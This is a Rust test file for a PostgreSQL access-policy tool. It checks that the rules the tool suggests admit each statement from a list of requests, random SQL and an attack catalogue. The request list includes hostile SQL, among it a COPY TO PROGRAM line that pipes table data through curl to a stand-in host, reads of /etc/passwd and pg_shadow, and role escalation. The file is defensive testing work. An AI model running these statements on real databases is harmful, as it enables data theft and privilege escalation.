//! The rules that `explain` suggests really allow the statement, and nothing that it doesn't do: over random statements, the
//! catalogue of attacks, and a list of what people ask for.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "a test fails by panicking"
)]

use crate::common;

use std::sync::Arc;

use common::random_sql::{Random, statement};
use portcullis::attacks::{self, Step, Target};
use portcullis::detect::Signals;
use portcullis::policy::{
    self, Breadth, Identity, Lack, Moment, Parameters, PolicySet, RuleRef, SessionPolicy, Stands, Traced, together,
};
use portcullis::sql::{self, Facts, Reading};

/// Sessions of every kind: with a path of one schema, of two, of none at all, without a path, with temporary tables, pins, and
/// without what needs no rule elsewhere.
const POLICIES: [&str; 7] = [
    "policy: p\napplies_to: {users: [u]}\nsearch_path: [public]\n",
    "policy: p\napplies_to: {users: [u]}\nsearch_path: [public, s]\n",
    "policy: p\napplies_to: {users: [u]}\nsearch_path: []\n",
    "policy: p\napplies_to: {users: [u]}\n",
    "policy: p\napplies_to: {users: [u]}\nsearch_path: [s]\ntemp_tables: allow\n",
    "policy: p\napplies_to: {users: [u]}\nsearch_path: [public]\npin: {default_transaction_read_only: on, work_mem: 4MB}\n",
    "policy: p\napplies_to: {users: [u]}\nsearch_path: [public]\nbaseline: none\n",
];

const ASKED_FOR: [&str; 26] = [
    "SELECT * FROM orders",
    "SELECT * FROM public.orders o JOIN \"Weird\".\"Name's *\" USING (id)",
    "INSERT INTO orders SELECT * FROM other.orders RETURNING id",
    "UPDATE a SET b = f(c), d = other.g(1) FROM e WHERE a.id = e.id",
    "DELETE FROM \"null\" USING \"true\"",
    "SELECT nextval('s'), currval('s'), setval('other.s', 1)",
    "SELECT pg_sleep(1), pg_read_file('/etc/passwd'), lo_import('/x')",
    "SELECT * FROM pg_authid, pg_stats, pg_catalog.pg_shadow, pg_toast.pg_toast_1",
    "COPY t TO PROGRAM 'curl -d @- http://a.example/a/very/long/path/that/is/longer/than/any/identifier/may/be'",
    "COPY t FROM '/tmp/x'; COPY (SELECT a FROM t) TO STDOUT",
    "SET search_path = api, public",
    "SET row_security = off",
    "SET app.tenant = 'x'; SET work_mem = '4MB'; SET LOCAL temp_buffers = 100",
    "SET ROLE admin; SET SESSION AUTHORIZATION boss",
    "SELECT set_config('role', 'admin', true), set_config('search_path', 'x', false)",
    "CREATE TABLE t (a int REFERENCES u); CREATE INDEX i ON t (f(a)); ALTER TABLE t ADD COLUMN b other.kind",
    "CREATE TEMP TABLE t AS SELECT 1; DROP TABLE a, b CASCADE; TRUNCATE a, b CASCADE",
    "CREATE SCHEMA x; DROP SCHEMA x CASCADE; COMMENT ON TABLE t IS 'x'; ALTER TABLE t RENAME TO u",
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT count(*)::int FROM t'",
    "GRANT SELECT ON t TO r; REVOKE ALL ON ALL TABLES IN SCHEMA s FROM r; CREATE ROLE x; CREATE POLICY p ON t",
    "VACUUM t; ANALYZE; REINDEX TABLE t; CLUSTER; REFRESH MATERIALIZED VIEW v; CHECKPOINT",
    "LISTEN a; NOTIFY \"B c\"; LOCK TABLE t; SELECT 1 FROM t FOR UPDATE; SELECT pg_advisory_lock(1)",
    "DO $$ BEGIN DELETE FROM t; END $$",
    "CREATE EXTENSION dblink; CREATE SERVER s FOREIGN DATA WRAPPER w; SELECT dblink('x', 'y')",
    "ALTER SYSTEM SET work_mem = '1GB'; SELECT pg_terminate_backend(1); SELECT pg_reload_conf()",
    "MERGE INTO t USING u ON t.a = u.a WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (1)",
];

fn on_a_large_stack<T: Send + 'static>(work: impl FnOnce() -> T + Send + 'static) -> T {
    std::thread::Builder::new().stack_size(sql::STACK).spawn(work).unwrap().join().unwrap()
}

fn identity() -> Identity {
    Identity {
        user: "u".into(),
        database: "d".into(),
        address: [127, 0, 0, 1].into(),
        tls: true,
        replication: false,
        arrival: portcullis::policy::Arrival::default(),
    }
}

fn moment() -> Moment<'static> {
    Moment { signals: Signals::NONE, ..Moment::now(true, Parameters::Later) }
}

fn allows(session: &SessionPolicy, facts: &Facts) -> bool {
    session.judge(facts, moment()).refusal().is_none()
}

#[derive(Debug, Default)]
struct Count {
    allowed: usize,
    suggested: usize,
    helpless: usize,
    /// Hints that were pasted, and those that had no room for their rules.
    pasted: usize,
    too_many: usize,
}

/// Asks for the rules of one text under one policy, and tries them.
fn suggest((set, one_name): &(Arc<PolicySet>, bool), text: &str, count: &mut Count) {
    let Ok(analysis) = sql::analyse(text, Reading::default()) else { return };
    let facts = analysis.facts;
    let session = set.admit(&identity()).unwrap();
    let trace = session.trace(&facts, &moment());
    let refused = trace.iter().any(Traced::is_refused);
    assert_eq!(refused, !allows(&session, &facts), "the trace and the verdict differ: {text}\n{trace:?}");
    if !refused {
        count.allowed += 1;
        return;
    }
    hint((set, &session), text, &facts, count);
    match session.rules_for(&trace, &moment(), Breadth::Objects) {
        Err(instead) => {
            count.helpless += 1;
            assert!(instead.iter().all(|sentence| sentence.len() > 10), "{text}: {instead:?}");
            let never = |traced: &Traced| match &traced.stands {
                Stands::Missing { lack: Lack::Rule, .. } => {
                    // No rule names what isn't understood, no role that can't be known, or nothing in an empty path.
                    format!("{:?}", traced.access.object).starts_with("Unknown")
                        || instead.iter().any(|sentence| sentence.contains("search_path is empty"))
                        || instead.iter().any(|sentence| sentence.contains("as a constant"))
                }
                Stands::Missing { .. } => true,
                Stands::Allowed(_) | Stands::Free(_) | Stands::AtBind => false,
            };
            assert!(trace.iter().any(never), "nothing stands in the way of a rule: {text}\n{instead:?}\n{trace:?}");
        }
        Ok(rules) => {
            count.suggested += 1;
            let lines: Vec<String> =
                together(rules).iter().enumerate().map(|(number, rule)| rule.yaml(&format!("r{number}"))).collect();
            let tried = set.admit_with_rules(&identity(), &lines).unwrap_or_else(|e| panic!("{text}\n{lines:?}\n{e}"));
            let judged = tried.judge(&facts, moment());
            assert!(judged.refusal().is_none(), "{text}\n{lines:#?}\n{:?}", judged.refusal());
            // The smallest: without any one of them it is refused. (`t` also covers `s.t` where the path has more than `s`.)
            for left_out in (0..lines.len()).filter(|_| *one_name) {
                let fewer: Vec<String> =
                    lines.iter().enumerate().filter(|(at, _)| *at != left_out).map(|(_, line)| line.clone()).collect();
                let tried = set.admit_with_rules(&identity(), &fewer).unwrap();
                // A rule without a selector is about everything.
                let covered = lines.iter().any(|line| !line.contains(": [") || line.matches('[').count() == 1);
                assert!(covered || !allows(&tried, &facts), "{text}: {} is not needed", lines[left_out]);
            }
        }
    }
}

/// The client's hint names all the rules that are missing, so that the statement passes when they are pasted; or says that
/// none would help, or that they are too many.
fn hint((set, session): (&Arc<PolicySet>, &SessionPolicy), text: &str, facts: &Facts, count: &mut Count) {
    let judged = session.judge(facts, moment());
    let hint = judged.refusal().unwrap().hint.as_deref().unwrap();
    assert!(hint.len() <= 1_000 || !hint.contains("{rule"), "{text}: {hint}");
    let trace = session.trace(facts, &moment());
    let missing = trace.iter().filter(|traced| traced.is_refused());
    let rules = session.rules_for(missing, &moment(), Breadth::Objects);
    match hint.strip_prefix("ask the DBA to allow it:") {
        Some(rules) => {
            count.pasted += 1;
            let lines: Vec<String> =
                rules.lines().filter_map(|line| line.trim().strip_prefix("- ")).map(str::to_owned).collect();
            let tried = set.admit_with_rules(&identity(), &lines).unwrap_or_else(|e| panic!("{text}\n{hint}\n{e}"));
            assert!(allows(&tried, facts), "{text}\n{hint}");
        }
        None if hint.contains("`portcullis explain` writes the rules") => {
            count.too_many += 1;
            assert!(
                together(rules.unwrap()).len() > 6 || facts.statements.len() > 1 || text.len() > 200,
                "{text}: {hint}"
            );
        }
        None => assert!(rules.is_err(), "rules would help: {text}: {hint}"),
    }
}

/// The sets, and whether each table has one name under them.
fn sets() -> Vec<(Arc<PolicySet>, bool)> {
    let several = |yaml: &str| yaml.contains("[public, s]") || yaml.contains("temp_tables");
    POLICIES.iter().map(|yaml| (Arc::new(policy::load_text("p.yaml", yaml).unwrap()), !several(yaml))).collect()
}

#[test]
fn what_people_ask_for_is_allowed_by_the_rules_that_are_suggested() {
    let count = on_a_large_stack(|| {
        let mut count = Count::default();
        for set in sets() {
            for text in ASKED_FOR {
                suggest(&set, text, &mut count);
                for part in text.split("; ") {
                    suggest(&set, part, &mut count);
                }
            }
        }
        count
    });
    assert!(count.suggested > 250 && count.pasted > 250 && count.helpless > 20 && count.allowed > 0, "{count:?}");
}

#[test]
fn the_deeds_of_the_catalogue_are_allowed_by_the_rules_that_are_suggested() {
    let count = on_a_large_stack(|| {
        let mut count = Count::default();
        let target = Target {
            users: "users".into(),
            schema: "public".into(),
            role: "u".into(),
            database: "d".into(),
            password: "p".into(),
        };
        let steps = attacks::all().flat_map(|attack| attack.ways()).flat_map(|way| way.steps);
        let texts: Vec<String> = steps
            .filter_map(|step| match step {
                Step::Sql(sql) | Step::Query(sql) | Step::Bound(sql, _) => Some(target.fill(sql)),
                Step::Bytes(..) | Step::CopyRest(..) | Step::Elsewhere(_) | Step::Reload(_) => None,
            })
            .collect();
        for set in sets() {
            texts.iter().for_each(|text| suggest(&set, text, &mut count));
        }
        count
    });
    assert!(count.suggested > 500 && count.helpless > 100, "{count:?}");
}

#[test]
fn random_statements_are_allowed_by_the_rules_that_are_suggested() {
    let count = on_a_large_stack(|| {
        let mut count = Count::default();
        let sets = sets();
        for seed in 0..700 {
            let text = statement(&mut Random::new(seed));
            sets.iter().for_each(|set| suggest(set, &text, &mut count));
        }
        count
    });
    assert!(count.suggested > 1000, "{count:?}");
}

#[test]
fn a_deny_rule_is_named_and_the_missing_rule_too() {
    on_a_large_stack(|| {
        let yaml =
            "policy: p\napplies_to: {users: [u]}\nsearch_path: [public]\ndeny:\n  - {rule: no, actions: [drop]}\n";
        let set = Arc::new(policy::load_text("p.yaml", yaml).unwrap());
        let facts = sql::analyse("DROP TABLE t", Reading::default()).unwrap().facts;
        let session = set.admit(&identity()).unwrap();
        let trace = session.trace(&facts, &moment());
        let [Traced { denied: Some(denied), stands: Stands::Missing { .. }, .. }] = trace.as_slice() else {
            panic!("{trace:?}")
        };
        assert!(matches!(&denied.rule, RuleRef::Rule { name, line: 5, .. } if &**name == "no"), "{denied:?}");
        assert!(!denied.observe);
        let rules = session.rules_for(&trace, &moment(), Breadth::Objects).unwrap();
        assert_eq!(rules[0].yaml("x"), "{rule: x, actions: [\"drop:table\"], tables: [t]}");
    });
}
